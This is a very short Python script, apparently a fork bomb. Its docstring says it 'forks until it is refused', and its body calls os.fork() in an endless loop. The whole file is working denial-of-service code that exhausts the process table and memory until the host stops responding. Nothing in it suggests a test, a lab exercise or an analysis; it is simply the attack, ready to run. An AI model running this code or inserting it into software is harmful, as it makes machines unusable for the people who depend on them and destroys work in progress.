"""Forks until it is refused."""
import os

while True:
    os.fork()
